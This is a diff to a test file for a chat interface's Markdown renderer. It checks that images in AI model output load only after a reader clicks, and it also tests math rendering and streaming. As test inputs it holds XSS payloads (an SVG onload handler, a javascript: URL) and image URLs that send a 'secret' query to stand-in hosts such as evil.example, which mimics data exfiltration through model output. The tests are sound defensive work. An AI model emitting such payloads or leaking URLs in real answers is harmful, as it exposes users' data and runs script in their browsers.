@@ -1,7 +1,9 @@
 import { describe, expect, it } from "vitest";
 import { renderToStaticMarkup } from "react-dom/server";
+import { fireEvent, render as mount } from "@testing-library/react";
 import { Markdown } from "./Markdown";
-import { safeImageUrl, safeUrl } from "./safeUrl";
+import { modelImage, safeImageUrl, safeUrl } from "./safeUrl";
+import { normalizeMathDelimiters, splitBlocks } from "./source";
 
 describe("safeUrl", () => {
   it("keeps web, mail and relative links", () => {
@@ -34,16 +36,39 @@ describe("safeUrl", () => {
       expect(safeUrl(url), url).toBeNull();
     }
   });
-  it("loads images only over http(s)", () => {
+  it("loads the user's own images only over https, as the CSP allows", () => {
     expect(safeImageUrl("https://example.com/a.png")).toBe("https://example.com/a.png");
+    expect(safeImageUrl("http://example.com/a.png")).toBeNull();
     expect(safeImageUrl("data:image/png;base64,AAAA")).toBeNull();
     expect(safeImageUrl("mailto:a@b.c")).toBeNull();
   });
+  it("never loads an image from model output by itself", () => {
+    expect(modelImage("https://cdn.example.com/a.png?leak=secret")).toEqual({
+      kind: "click-to-load",
+      url: "https://cdn.example.com/a.png?leak=secret",
+      host: "cdn.example.com",
+    });
+    expect(modelImage("HTTP://plain.example.com:8080/a.png")).toEqual({
+      kind: "link",
+      url: "HTTP://plain.example.com:8080/a.png",
+      host: "plain.example.com:8080",
+    });
+    for (const src of [
+      "data:image/png;base64,AAAA",
+      "blob:https://x/1",
+      "javascript:alert(1)",
+      "/relative.png",
+      "//cdn.example.com/x.png",
+      "",
+    ]) {
+      expect(modelImage(src), src).toBeNull();
+    }
+  });
 });
 
-function render(text: string): HTMLElement {
+function render(text: string, streaming = false): HTMLElement {
   const host = document.createElement("div");
-  host.innerHTML = renderToStaticMarkup(<Markdown text={text} />);
+  host.innerHTML = renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);
   return host;
 }
 
@@ -78,15 +103,45 @@ describe("Markdown", () => {
     expect(html.textContent).toContain("a b c");
   });
 
-  it("drops images with unsafe sources", () => {
-    const html = render("![pic](data:image/svg+xml,<svg/onload=alert(1)>) ![ok](https://example.com/a.png)");
-    const images = Array.from(html.querySelectorAll("img"));
-    expect(images.map((i) => i.getAttribute("src"))).toEqual(["https://example.com/a.png"]);
+  it("drops images with unsafe sources and keeps their alt text", () => {
+    const html = render("![pic](data:image/svg+xml,<svg/onload=alert(1)>) ![script](javascript:alert(1))");
+    expect(html.querySelectorAll("img, button")).toHaveLength(0);
+    expect(html.textContent).toContain("pic");
+    expect(html.textContent).toContain("script");
+  });
+
+  it("loads a remote image only when the reader clicks its placeholder, which names the host", () => {
+    const { container, getByRole } = mount(<Markdown text={"See ![the chart](https://evil.example/c.png?q=secret) here"} />);
+    expect(container.querySelector("img")).toBeNull();
+    const placeholder = getByRole("button", { name: /Load image from evil\.example/ });
+    expect(placeholder.textContent).toContain("the chart");
+    expect(placeholder.getAttribute("title")).toBe("https://evil.example/c.png?q=secret");
+    fireEvent.click(placeholder);
+    const img = container.querySelector("img");
+    expect(img?.getAttribute("src")).toBe("https://evil.example/c.png?q=secret");
+    expect(img?.getAttribute("referrerpolicy")).toBe("no-referrer");
+    expect(img?.getAttribute("alt")).toBe("the chart");
+  });
+
+  it("keeps a loaded image when the answer finishes streaming", () => {
+    const text = "First block\n\n![pic](https://img.example/p.png)\n\nmore";
+    const view = mount(<Markdown text={text} streaming />);
+    fireEvent.click(view.getByRole("button", { name: /img\.example/ }));
+    view.rerender(<Markdown text={text + " text"} streaming={false} />);
+    expect(view.container.querySelector("img")?.getAttribute("src")).toBe("https://img.example/p.png");
+  });
+
+  it("offers http images (which the CSP would block) as a link only", () => {
+    const html = render("![old](http://plain.example/a.png)");
+    expect(html.querySelector("img")).toBeNull();
+    const link = html.querySelector("a");
+    expect(link?.getAttribute("href")).toBe("http://plain.example/a.png");
+    expect(link?.textContent).toBe("old (plain.example)");
   });
 
   it("renders code with highlighting and a copy button, tables, and math", () => {
     const html = render(
-      "```rust\nfn main() { let x = 1; }\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEuler: $e^{i\\pi}+1=0$\n\n$$\n\\int_0^1 x\\,dx\n$$",
+      "```rust\nfn main() { let x = 1; }\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEuler: $$e^{i\\pi}+1=0$$\n\n$$\n\\int_0^1 x\\,dx\n$$",
     );
     const code = html.querySelector("pre code");
     expect(code?.className).toContain("language-rust");
@@ -95,5 +150,91 @@ describe("Markdown", () => {
     expect(html.querySelectorAll("table td")).toHaveLength(2);
     expect(html.querySelectorAll(".katex").length).toBeGreaterThanOrEqual(2);
     expect(html.querySelector(".katex-display")).not.toBeNull();
+  });
+});
+
+describe("math", () => {
+  it("leaves currency as text", () => {
+    const html = render("It costs $5 and $10, or $ 20.");
+    expect(html.querySelector(".katex")).toBeNull();
+    expect(html.textContent).toBe("It costs $5 and $10, or $ 20.");
+  });
+
+  it("renders \\(…\\) and $$…$$ inline, \\[…\\] and $$ blocks as display math", () => {
+    const inline = render("Area \\(\\pi r^2\\) and $$x^2$$.");
+    expect(inline.querySelectorAll(".katex")).toHaveLength(2);
+    expect(inline.querySelector(".katex-display")).toBeNull();
+    expect(inline.querySelector("annotation")?.textContent).toBe("\\pi r^2");
+
+    const display = render("Sum:\n\n\\[\n\\sum_{i=1}^n i\n\\]\n\nand\n\n\\[ e = mc^2 \\]");
+    expect(display.querySelectorAll(".katex-display")).toHaveLength(2);
+  });
+
+  it("rewrites LaTeX delimiters outside code only", () => {
+    expect(normalizeMathDelimiters("a \\(x\\) b")).toBe("a $$x$$ b");
+    expect(normalizeMathDelimiters("`\\(x\\)` and\n```\n\\[y\\]\n```\n")).toBe("`\\(x\\)` and\n```\n\\[y\\]\n```\n");
+    expect(normalizeMathDelimiters("- item\n  \\[ x \\]\n")).toBe("- item\n  $$\n  x\n  $$\n");
+    // An escaped backslash is no delimiter; a paragraph break ends inline math.
+    expect(normalizeMathDelimiters("\\\\(not math)")).toBe("\\\\(not math)");
+    expect(normalizeMathDelimiters("\\( a\n\nb \\)")).toBe("\\( a\n\nb \\)");
+  });
+});
+
+describe("streaming blocks", () => {
+  const answer = [
+    "# Title",
+    "",
+    "A paragraph with `code`.",
+    "",
+    "```python",
+    "def f():",
+    "",
+    "    return 1",
+    "```",
+    "",
+    "- item one",
+    "",
+    "  continued item",
+    "- item two",
+    "",
+    "$$",
+    "x",
+    "",
+    "y",
+    "$$",
+    "",
+    "| a | b |",
+    "|---|---|",
+    "| 1 | 2 |",
+    "",
+    "Last words.",
+  ].join("\n");
+
+  it("cuts only between top-level blocks", () => {
+    expect(splitBlocks(answer)).toEqual([
+      "# Title\n\n",
+      "A paragraph with `code`.\n\n",
+      "```python\ndef f():\n\n    return 1\n```\n\n",
+      "- item one\n\n  continued item\n- item two\n\n",
+      "$$\nx\n\ny\n$$\n\n",
+      "| a | b |\n|---|---|\n| 1 | 2 |\n\n",
+      "Last words.",
+    ]);
+    expect(splitBlocks(answer).join("")).toBe(answer);
+  });
+
+  it("never changes a finished block as more text arrives", () => {
+    const final = splitBlocks(answer);
+    for (let end = 0; end <= answer.length; end++) {
+      const blocks = splitBlocks(answer.slice(0, end));
+      // Every block but the growing last one is already final.
+      expect(blocks.slice(0, -1), answer.slice(0, end)).toEqual(final.slice(0, blocks.length - 1));
+    }
+  });
+
+  it("renders a streaming answer as the finished one renders", () => {
+    // Only the newlines between top-level elements differ, which HTML does not show.
+    const markup = (streaming: boolean) => render(answer, streaming).innerHTML.replace(/>\s+</g, "><");
+    expect(markup(true)).toBe(markup(false));
   });
 });
